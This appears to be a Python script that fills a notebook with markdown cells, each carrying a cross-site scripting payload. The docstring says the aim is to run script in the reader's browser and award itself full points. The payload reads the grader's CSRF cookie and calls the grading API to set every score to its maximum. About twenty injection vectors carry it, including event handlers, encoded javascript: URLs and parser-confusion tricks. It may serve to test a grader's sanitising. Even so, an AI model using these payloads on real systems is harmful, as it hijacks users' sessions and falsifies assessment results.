"""Markdown that runs a script in the browser of its reader, in all ways there are, and gives itself full points.

# points:
"""

# %% notebook edit
from nbformat.v4 import new_markdown_cell

script = """
window.adversary = true;
fetch(base_url + '/api/grades?submission_id=' + submission_id).then(a => a.json()).then(grades =>
  grades.forEach(grade => fetch(base_url + '/api/grade/' + grade.id, {
    method: 'PUT', headers: {'X-CSRFToken': document.cookie.match('_xsrf=([^;]*)')[1]},
    body: JSON.stringify({...grade, manual_score: grade.max_score})})))
"""
line = " ".join(script.split())
coded = "".join(f"&#{ord(char)};" for char in line)
for text in [
    f"<script>{script}</script>",
    f'<img src=x onerror="{line}">',
    f'A line with <img src=x onerror="{line}"> in it',
    f'<svg onload="{line}"><animate onbegin="{line}" attributeName=x dur=1s></svg>',
    f"<svg><style><img src=\"</style><img src=x onerror='{line.replace(chr(39), '&#39;')}'>\"></style></svg>",
    f'<details open ontoggle="{line}"><summary>more</summary></details>',
    f'<input autofocus onfocus="{line}"><video src=x onerror="{line}"></video><audio src=x onerror="{line}">',
    '<iframe srcdoc="<script>parent.adversary = true</script>"></iframe>',
    "<iframe src=\"javascript:parent.eval('parent.adversary=true')\"></iframe>",
    f'<object data="javascript:{coded}"></object><embed src="javascript:{coded}">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={coded}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={coded}>"></noscript>',
    f'<textarea><p title="</textarea><img src=x onerror={coded}>"></textarea>',
    f'<!--><img src=x onerror="{line}">--> <![CDATA[><img src=x onerror="{line}">]]>',
    f'| a |\n|---|\n| <img src=x onerror="{line.replace("|", "&#124;")}"> |',
    f'```mermaid\n<img src=x onerror="{line}">\n```',
    f'```python" onmouseover="{line}\n1\n```',
    f'# A heading <img src=x onerror="{line}">',
    f'<style onload="{line}"></style><link rel=stylesheet href="data:text/css,*{{}}" onload="{line}">',
    f'<body onload="{line}"><marquee onstart="{line}">x</marquee><xmp><script>{line}</script></xmp>',
]:
    notebook.cells.append(new_markdown_cell(text))
